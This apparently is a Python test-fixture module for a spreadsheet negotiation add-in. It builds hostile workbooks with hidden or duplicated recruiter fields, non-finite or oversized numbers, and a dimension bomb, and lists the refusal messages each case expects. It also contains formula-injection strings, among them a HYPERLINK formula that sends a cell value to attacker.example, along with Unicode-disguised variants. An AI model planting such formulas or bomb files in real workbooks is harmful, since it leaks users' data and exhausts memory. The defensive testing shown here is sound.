"""Hostile workbooks for the recruiter copy and the numbers read from a workbook.

Each :class:`~bench.hostile.Case` builds one file from a freshly built example workbook
(``base``) by editing its XML, and lists the commands checked to refuse it, with a fragment
of the refusal (lower case).  How a command is run on a file: ``compare FILE``,
``brief FILE``, ``share FILE -o OUT.xlsx`` (the default disclosure: target, currency, basis
and location, all cached on the Recruiter sheet).

- 11.7: a Recruiter field that is hidden (row, column, zero or too small a height or width,
  collapsed outline, the whole sheet, a number format that shows nothing, covered by a
  merged range) or listed twice, and a disclosure switch listed twice: ``share`` only, the
  other commands do not read those sheets.
- 11.12: amounts beyond :data:`calculators.offer.model.MAX_AMOUNT`, NaN and infinity.  A salary
  of 1e308 is refused by compare and brief; ``share`` with the default disclosure never
  reads the salary (the Recruiter sheet's cached values are what it copies), so it is not
  listed; with ``--include best_offer`` it refuses too (the test checks that separately).
- 11.3 (the readers' own bound): a Market table that does not end within the rows the
  brief reads.  The dimension bomb itself (``<dimension ref="A1:XFD1048576"/>`` and a cell
  in the last row of every sheet) is :func:`dimension_bomb`; it is not a case here: the
  readers read it in bounded memory and the input guard refuses it (its cases are in
  :mod:`bench.hostile_guard`).

:data:`FORMULA_TEXTS` (finding 11.13) are texts a spreadsheet would take for a formula;
:func:`formula_location` puts one in the copied location.  ``share`` is not refused: it
writes them inert (a leading apostrophe), which the tests check through LibreOffice's CSV
export.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from addin.io.reader import BOUNDS
from addin.workbook.sheets.layout import Layout
from bench.hostile import Case, rewrite, sheet_part

# --- XML edits ------------------------------------------------------------------------------


def _xml(path: Path, title: str) -> tuple[str, str]:
    """The part name and XML of the worksheet ``title``."""
    part = sheet_part(path, title)
    with zipfile.ZipFile(path) as zf:
        return part, zf.read(part).decode("utf-8")


def _edit(base: Path, folder: Path, file: str, title: str, *edits) -> Path:
    """A copy of ``base`` whose sheet ``title`` went through ``edits`` (xml -> xml)."""
    part, xml = _xml(base, title)
    for edit in edits:
        xml = edit(xml)
    return rewrite(base, folder / file, replace={part: xml.encode("utf-8")})


def _text(coord: str, text: str) -> str:
    return f'<c r="{coord}" t="inlineStr"><is><t>{text}</t></is></c>'


def _number(coord: str, value: str) -> str:
    return f'<c r="{coord}"><v>{value}</v></c>'


def value(coord: str, text: str):
    """Set the cached value of the cell ``coord`` (a formula, if any, stays)."""

    def edit(xml: str) -> str:
        cell = re.compile(rf'<c r="{coord}"([^>]*?)(/>|>(.*?)</c>)')
        found = cell.search(xml)
        assert found is not None, coord
        attrs = re.sub(r'\s+t="[^"]*"', "", found.group(1))
        formula = re.search(r"<f[ >].*?</f>|<f/>|<f [^>]*/>", found.group(3) or "")
        numeric = re.fullmatch(r"[-+]?[\d.eE+-]+|NaN|nan|inf|-inf|INF", text) is not None
        kind = "" if numeric else ' t="str"'
        body = (formula.group(0) if formula else "") + f"<v>{text}</v>"
        return xml[: found.start()] + f'<c r="{coord}"{attrs}{kind}>{body}</c>' + xml[found.end() :]

    return edit


def new_row(r: int, cells: str, attrs: str = ""):
    """Insert row ``r`` (it must not exist) with ``cells``, in row order."""

    def edit(xml: str) -> str:
        assert f'<row r="{r}"' not in xml, r
        row = f'<row r="{r}"{(" " + attrs) if attrs else ""}>{cells}</row>'
        later = [m for m in re.finditer(r'<row r="(\d+)"', xml) if int(m.group(1)) > r]
        cut = later[0].start() if later else xml.index("</sheetData>")
        return xml[:cut] + row + xml[cut:]

    return edit


def _attrs_after(opening: str, attrs: str):
    """Add attributes after the first ``opening`` of an element (it must be there)."""

    def edit(xml: str) -> str:
        found = re.search(re.escape(opening), xml)
        assert found is not None, opening
        return xml[: found.end()] + " " + attrs + xml[found.end() :]

    return edit


def row_attrs(r: int, attrs: str):
    """Add attributes to the existing row ``r``."""
    return _attrs_after(f'<row r="{r}"', attrs)


def column_attrs(col: int, attrs: str):
    """Add attributes to the ``<col>`` element that covers only column ``col``."""
    return _attrs_after(f'<col min="{col}" max="{col}"', attrs)


# --- the Recruiter sheet (11.7) ---------------------------------------------------------------

# Parallel to each other: each case function is one call of _edit with the case's own file name and
# XML edits (visible_duplicate and tiny_row, hidden_duplicate...); kept one function per case
# because CASES names them one by one, each with its docstring.
# Its layout: title rows 1-2, the header on row 4, then one field per row from row 5: target
# (A5/B5), currency, basis, location (A8/B8), offers_held, best_offer.  Row 3 is empty.

RECRUITER = "Recruiter"
PRIVATE = "99999999"  # the number the user hid from view


def hidden_duplicate(base: Path, folder: Path) -> Path:
    """The finding as reported: a hidden row above the visible one, with the same field key
    and a private value (the old copy showed the hidden value)."""
    return _edit(
        base,
        folder,
        "hidden-duplicate.xlsx",
        RECRUITER,
        new_row(3, _text("A3", "target") + _number("B3", PRIVATE), 'hidden="1"'),
    )


def visible_duplicate(base: Path, folder: Path) -> Path:
    """The same field key twice, both visible: which one would the recruiter get?"""
    return _edit(
        base,
        folder,
        "visible-duplicate.xlsx",
        RECRUITER,
        new_row(3, _text("A3", "Target") + _number("B3", PRIVATE)),
    )


def hidden_field_row(base: Path, folder: Path) -> Path:
    """The location row itself hidden: the user does not see what would be sent."""
    return _edit(base, folder, "hidden-field-row.xlsx", RECRUITER, row_attrs(8, 'hidden="1"'))


def zero_height_row(base: Path, folder: Path) -> Path:
    """The location row at zero height: hidden in all but name."""
    return _edit(base, folder, "zero-height-row.xlsx", RECRUITER, row_attrs(8, 'ht="0" customHeight="1"'))


def collapsed_outline(base: Path, folder: Path) -> Path:
    """The field rows grouped in an outline collapsed at its summary row (row 11), the rows
    themselves not marked hidden."""
    edits = [row_attrs(r, 'outlineLevel="1"') for r in range(5, 11)]
    edits.append(new_row(11, _text("A11", "summary"), 'collapsed="1"'))
    return _edit(base, folder, "collapsed-outline.xlsx", RECRUITER, *edits)


def hidden_value_column(base: Path, folder: Path) -> Path:
    """Column B, the values, hidden."""
    return _edit(base, folder, "hidden-value-column.xlsx", RECRUITER, column_attrs(2, 'hidden="1"'))


def hidden_recruiter_sheet(base: Path, folder: Path) -> Path:
    """The whole Recruiter sheet hidden."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml").decode("utf-8")
    wb = wb.replace('<sheet name="Recruiter" ', '<sheet name="Recruiter" state="hidden" ', 1)
    return rewrite(
        base, folder / "hidden-recruiter-sheet.xlsx", replace={"xl/workbook.xml": wb.encode("utf-8")}
    )


SECRET = "SECRET-ROW8"  # the location the user cannot see


def _styled(base: Path, folder: Path, file: str, code: str, coord: str, cell: str) -> Path:
    """A number format ``code`` added to xl/styles.xml (id 171, a new cellXfs entry) and the
    Recruiter cell ``coord`` replaced by ``cell`` (its ``s`` attribute left as ``{s}``)."""
    with zipfile.ZipFile(base) as zf:
        styles = zf.read("xl/styles.xml").decode("utf-8")
    styles = styles.replace("</numFmts>", f'<numFmt numFmtId="171" formatCode="{code}"/></numFmts>', 1)
    xfs = re.search(r'<cellXfs count="(\d+)">(.*?)</cellXfs>', styles, re.S)
    assert xfs is not None
    index = len(re.findall(r"<xf ", xfs.group(2)))
    styles = (
        styles[: xfs.start()]
        + f'<cellXfs count="{index + 1}">'
        + xfs.group(2)
        + '<xf numFmtId="171" fontId="0" fillId="0" borderId="0" xfId="0" '
        'applyNumberFormat="1"/></cellXfs>' + styles[xfs.end() :]
    )
    part, xml = _xml(base, RECRUITER)
    found = re.search(rf'<c r="{coord}"[^>]*?(/>|>.*?</c>)', xml)
    assert found is not None, coord
    xml = xml[: found.start()] + cell.format(s=index) + xml[found.end() :]
    return rewrite(
        base, folder / file, replace={"xl/styles.xml": styles.encode("utf-8"), part: xml.encode("utf-8")}
    )


def format_hides_text(base: Path, folder: Path) -> Path:
    """The location (B8, text) styled ``;;;``: every section empty, Excel shows nothing."""
    return _styled(
        base,
        folder,
        "format-hides-text.xlsx",
        ";;;",
        "B8",
        f'<c r="B8" s="{{s}}" t="inlineStr"><is><t>{SECRET}</t></is></c>',
    )


def format_hides_number(base: Path, folder: Path) -> Path:
    """The target (B5, a number) styled ``;;``: no text section, but the positive, negative
    and zero sections all empty."""
    return _styled(
        base, folder, "format-hides-number.xlsx", ";;", "B5", f'<c r="B5" s="{{s}}"><v>{PRIVATE}</v></c>'
    )


def _merged(ref: str):
    def edit(xml: str) -> str:
        return xml.replace(
            "</sheetData>", f'</sheetData><mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>', 1
        )

    return edit


def merged_key_value(base: Path, folder: Path) -> Path:
    """A8:B8 merged: the location value B8 is covered by its key, not shown."""
    return _edit(base, folder, "merged-key-value.xlsx", RECRUITER, value("B8", SECRET), _merged("A8:B8"))


def merged_values(base: Path, folder: Path) -> Path:
    """B7:B8 merged: B7 (basis) is shown, the location value B8 under it is not."""
    return _edit(base, folder, "merged-values.xlsx", RECRUITER, value("B8", SECRET), _merged("B7:B8"))


def tiny_row(base: Path, folder: Path) -> Path:
    """The location row 0.1 point high: not zero, still nothing to see."""
    return _edit(
        base,
        folder,
        "tiny-row.xlsx",
        RECRUITER,
        value("B8", SECRET),
        row_attrs(8, 'ht="0.1" customHeight="1"'),
    )


def narrow_value_column(base: Path, folder: Path) -> Path:
    """Column B, the values, 0.01 character wide."""

    def edit(xml: str) -> str:
        out, n = re.subn(r'(<col min="2" max="2"[^>]*?)width="[^"]*"', r'\1width="0.01"', xml, count=1)
        assert n == 1
        return out

    return _edit(base, folder, "narrow-value-column.xlsx", RECRUITER, edit)


def duplicate_switch(base: Path, folder: Path) -> Path:
    """A second disclosure switch for best_offer (Strategy K:L), switched on, below the block
    (row 150): which switch holds?"""
    return _edit(
        base,
        folder,
        "duplicate-switch.xlsx",
        "Strategy",
        new_row(150, _text("K150", "best_offer") + '<c r="L150" t="b"><v>1</v></c>'),
    )


# --- numbers (11.12) ------------------------------------------------------------------------
# Offers: the first offer in column B, base_salary on row 5.  Params: the JPY rate (the
# shipped table's second, after the USD base) in JPY_RATE.  Strategy: walk_away in B9.
# Market: the first data row is row 5, base in column F.
JPY_RATE = f"B{Layout(0).fx_header_row + 3}"


def offers_cell(text: str, file: str, coord: str = "B5"):
    def build(base: Path, folder: Path) -> Path:
        return _edit(base, folder, file, "Offers", value(coord, text))

    return build


def params_cell(text: str, file: str, coord: str):
    def build(base: Path, folder: Path) -> Path:
        return _edit(base, folder, file, "Params", value(coord, text))

    return build


def strategy_cell(text: str, file: str, coord: str):
    def build(base: Path, folder: Path) -> Path:
        return _edit(base, folder, file, "Strategy", value(coord, text))

    return build


def market_cell(text: str, file: str, coord: str = "F5"):
    def build(base: Path, folder: Path) -> Path:
        return _edit(base, folder, file, "Market", value(coord, text))

    return build


def recruiter_cell(text: str, file: str, coord: str = "B5"):
    def build(base: Path, folder: Path) -> Path:
        return _edit(base, folder, file, RECRUITER, value(coord, text))

    return build


def endless_market(base: Path, folder: Path) -> Path:
    """Market rows with no blank row before the last row the brief reads."""
    part, xml = _xml(base, "Market")
    last = max(int(r) for r in re.findall(r'<row r="(\d+)"', xml))
    rows = "".join(
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>Company Z</t></is></c>'
        f'<c r="F{r}"><v>100000</v></c><c r="I{r}"><v>100000</v></c></row>'
        for r in range(last + 1, BOUNDS["Market"][0] + 2)
    )
    cut = xml.index("</sheetData>")
    xml = xml[:cut] + rows + xml[cut:]
    return rewrite(base, folder / "endless-market.xlsx", replace={part: xml.encode("utf-8")})


# --- the dimension bomb (11.3): read, not refused, by the readers --------------------------------

READ_SHEETS = ("Offers", "Params", "Relocation", "Strategy", "Market", "Recruiter")


def dimension_bomb(base: Path, folder: Path) -> Path:
    """Every sheet the readers read declares ``A1:XFD1048576`` and holds one cell in the last
    row and column (79 KB as reported; a reader trusting the dimension pads 17 billion
    cells per sheet)."""
    replace = {}
    for title in READ_SHEETS:
        part, xml = _xml(base, title)
        xml = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml, count=1)
        cut = xml.index("</sheetData>")
        xml = xml[:cut] + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + xml[cut:]
        replace[part] = xml.encode("utf-8")
    return rewrite(base, folder / "dimension-bomb.xlsx", replace=replace)


# --- formula text (11.13): made inert, not refused ------------------------------------------------

FORMULA_TEXTS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Tokyo")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTokyo",
    "\rTokyo",
    "\nTokyo",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",
    "\u2212" + "2+3",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u200d+1",
    "\ufeff-1",
    "\u2060@A1",
    "\u3000=1+1",
    "\u202f=1+1",
    "\u00a0\u200b\u200d＝1+1",
    "\u3164=1+1",
)


def formula_location(text: str, file: str = "formula-location.xlsx"):
    """The copied location (Recruiter B8, cached) set to ``text``."""
    escaped = (
        text.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace('"', "&quot;")
        .replace("\t", "&#9;")
        .replace("\r", "&#13;")
        .replace("\n", "&#10;")
    )
    return recruiter_cell(escaped, file, "B8")


BEYOND = "is beyond 1,000,000,000,000"
NOT_FINITE = "must be a finite number"
CASES: list[Case] = [
    Case(
        "hidden-duplicate",
        "11.7",
        hidden_duplicate,
        "recruiter field target at recruiter!a3 is in a hidden row",
        ("share",),
    ),
    Case(
        "visible-duplicate",
        "11.7",
        visible_duplicate,
        "recruiter field target appears twice, at recruiter!a3 and recruiter!a5",
        ("share",),
    ),
    Case(
        "hidden-field-row",
        "11.7",
        hidden_field_row,
        "recruiter field location at recruiter!a8 is in a hidden row",
        ("share",),
    ),
    Case(
        "zero-height-row",
        "11.7",
        zero_height_row,
        "recruiter field location at recruiter!a8 is in a hidden row",
        ("share",),
    ),
    Case(
        "collapsed-outline",
        "11.7",
        collapsed_outline,
        "recruiter field target at recruiter!a5 is in a hidden row",
        ("share",),
    ),
    Case(
        "hidden-value-column",
        "11.7",
        hidden_value_column,
        "recruiter field target at recruiter!a5 is in a hidden column (b)",
        ("share",),
    ),
    Case(
        "hidden-recruiter-sheet", "11.7", hidden_recruiter_sheet, "the recruiter sheet is hidden", ("share",)
    ),
    Case(
        "format-hides-text",
        "11.7",
        format_hides_text,
        "recruiter field location at recruiter!b8 is formatted to show nothing (number format ;;;)",
        ("share",),
    ),
    Case(
        "format-hides-number",
        "11.7",
        format_hides_number,
        "recruiter field target at recruiter!b5 is formatted to show nothing (number format ;;)",
        ("share",),
    ),
    Case(
        "merged-key-value",
        "11.7",
        merged_key_value,
        "recruiter field location at recruiter!b8 is covered by the merged cells a8:b8",
        ("share",),
    ),
    Case(
        "merged-values",
        "11.7",
        merged_values,
        "recruiter field location at recruiter!b8 is covered by the merged cells b7:b8",
        ("share",),
    ),
    Case(
        "tiny-row",
        "11.7",
        tiny_row,
        "recruiter field location at recruiter!a8 is in a hidden row",
        ("share",),
    ),
    Case(
        "narrow-value-column",
        "11.7",
        narrow_value_column,
        "recruiter field target at recruiter!a5 is in a hidden column (b)",
        ("share",),
    ),
    Case(
        "duplicate-switch",
        "11.7",
        duplicate_switch,
        "disclosure switch best_offer appears twice, at strategy!k8 and strategy!k150",
        ("share",),
    ),
    Case(
        "salary-1e308",
        "11.12",
        offers_cell("1e308", "salary-1e308.xlsx"),
        f"offer 1 (offers column b): base_salary {BEYOND}",
        ("compare", "brief"),
    ),
    Case(
        "salary-above-bound",
        "11.12",
        offers_cell("1000000000001", "salary-above-bound.xlsx"),
        f"offer 1 (offers column b): base_salary {BEYOND}",
        ("compare", "brief"),
    ),
    Case(
        "salary-nan",
        "11.12",
        offers_cell("NaN", "salary-nan.xlsx"),
        f"offer 1 (offers column b): base_salary {NOT_FINITE}",
        ("compare", "brief"),
    ),
    Case(
        "salary-infinity",
        "11.12",
        offers_cell("1E999", "salary-infinity.xlsx"),
        f"offer 1 (offers column b): base_salary {NOT_FINITE}",
        ("compare", "brief"),
    ),
    Case(
        "sign-on-nan",
        "11.12",
        offers_cell("NaN", "sign-on-nan.xlsx", "B9"),
        f"offer 1 (offers column b): sign_on {NOT_FINITE}",
        ("compare", "brief"),
    ),
    Case(
        "fx-rate-1e308",
        "11.12",
        params_cell("1e308", "fx-rate-1e308.xlsx", JPY_RATE),
        "is out of range; check the sizes of the amounts and fx rates",
        ("compare", "brief"),
    ),
    Case(
        "discount-rate-nan",
        "11.12",
        params_cell("NaN", "discount-rate-nan.xlsx", "B5"),
        "params!b5 holds a number that is not finite",
        ("compare", "brief"),
    ),
    Case(
        "walk-away-1e308",
        "11.12",
        strategy_cell("1e308", "walk-away-1e308.xlsx", "B9"),
        f"strategy input walk_away {BEYOND}",
        ("brief",),
    ),
    Case(
        "market-nan",
        "11.12",
        market_cell("NaN", "market-nan.xlsx"),
        "market!f5 holds a number that is not finite",
        ("brief",),
    ),
    Case(
        "recruiter-target-1e308",
        "11.12",
        recruiter_cell("1e308", "recruiter-target.xlsx"),
        f"the field target {BEYOND}",
        ("share",),
    ),
    Case(
        "recruiter-target-nan",
        "11.12",
        recruiter_cell("NaN", "recruiter-target-nan.xlsx"),
        "recruiter!b5 holds a number that is not finite",
        ("share",),
    ),
    Case(
        "endless-market",
        "11.3",
        endless_market,
        f"market sheet's table runs past row {BOUNDS['Market'][0]:,}",
        ("brief",),
    ),
]


# --- figures: ``python -m bench.hostile_share`` ---------------------------------------------------


def full_market(base: Path, folder: Path) -> Path:
    """The Market table filled to the last row the brief reads, all 12 columns: the most the
    readers' bound lets through."""
    part, xml = _xml(base, "Market")
    last = max(int(r) for r in re.findall(r'<row r="(\d+)"', xml))
    letters = "ABCDEFGHIJKL"
    texts = {0: "Company Z", 1: "ML engineer", 2: "L5", 3: "Tokyo", 9: "JPY", 10: "2026-01-01", 11: "pasted"}
    numbers = {4: "7", 5: "9000000", 6: "3000000", 7: "1000000", 8: "13000000"}
    rows = []
    for r in range(last + 1, BOUNDS["Market"][0]):
        cells = "".join(
            _text(f"{letters[c]}{r}", texts[c]) if c in texts else _number(f"{letters[c]}{r}", numbers[c])
            for c in range(12)
        )
        rows.append(f'<row r="{r}">{cells}</row>')
    cut = xml.index("</sheetData>")
    xml = xml[:cut] + "".join(rows) + xml[cut:]
    return rewrite(base, folder / "full-market.xlsx", replace={part: xml.encode("utf-8")})


_READ = r"""
import json, sys, time, tracemalloc
from pathlib import Path
import addin.io.guard, addin.io.reader, addin.render.share
for module in (addin.io.guard, addin.io.reader, addin.render.share):  # the readers alone face the file
    module.check_workbook = lambda path, *a, **k: Path(path)
from addin.render.brief import build_brief, read_strategy
from addin.io.reader import read_inputs
from addin.render.share import read_disclosed
reader = {"read_inputs": read_inputs, "read_strategy": read_strategy, "build_brief": build_brief,
          "read_disclosed": lambda p: read_disclosed(p, ("best_offer",))}[sys.argv[1]]
def once():
    try:
        reader(sys.argv[2])
        return "read"
    except Exception as exc:
        return "refused: " + str(exc).split(": ", 1)[-1][:60]
t = time.perf_counter()
outcome = once()  # timed untraced; then once more under tracemalloc for the peak
seconds = time.perf_counter() - t
tracemalloc.start()
once()
print(json.dumps({"outcome": outcome, "seconds": seconds,
                  "traced_peak": tracemalloc.get_traced_memory()[1]}))
"""
_RUSAGE = r"""
import json, resource, subprocess, sys
p = subprocess.run(sys.argv[1:], capture_output=True, text=True)
u = resource.getrusage(resource.RUSAGE_CHILDREN)
out = json.loads(p.stdout) if p.returncode == 0 else {"outcome": p.stderr[-200:]}
print(json.dumps({**out, "maxrss_kib": u.ru_maxrss}))
"""


def bench_readers() -> None:
    """Time and peak memory of each reader, in a fresh process with the input guard off, on
    the shipped workbook, the dimension bomb, a Market filled to its bound and one past it:
    the reader's own seconds (interpreter start-up and imports excluded), the peak of
    Python's allocations while it runs (tracemalloc, a second run) and the process's peak
    resident memory (imports included)."""
    import json
    import subprocess
    import sys
    import tempfile

    from addin.workbook.builder import build

    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        base = build(folder / "negotiation.xlsm")
        files = {
            "shipped workbook": base,
            "dimension bomb": dimension_bomb(base, folder),
            "Market full to its bound": full_market(base, folder),
            "Market past its bound": endless_market(base, folder),
        }
        for label, path in files.items():
            print(f"{label} ({path.stat().st_size / 1024:,.0f} KiB)")
            for reader in ("read_inputs", "read_strategy", "build_brief", "read_disclosed"):
                done = subprocess.run(
                    [sys.executable, "-c", _RUSAGE, sys.executable, "-c", _READ, reader, str(path)],
                    capture_output=True,
                    text=True,
                    check=True,
                )
                r = json.loads(done.stdout)
                if "seconds" not in r:
                    print(f"  {reader:<15} failed: {r['outcome']}")
                    continue
                print(
                    f"  {reader:<15} {r['seconds']:6.2f} s, traced peak "
                    f"{r['traced_peak'] / (1 << 20):6.1f} MiB, process peak "
                    f"{r['maxrss_kib'] / 1024:4.0f} MiB  {r['outcome']}"
                )


if __name__ == "__main__":
    bench_readers()
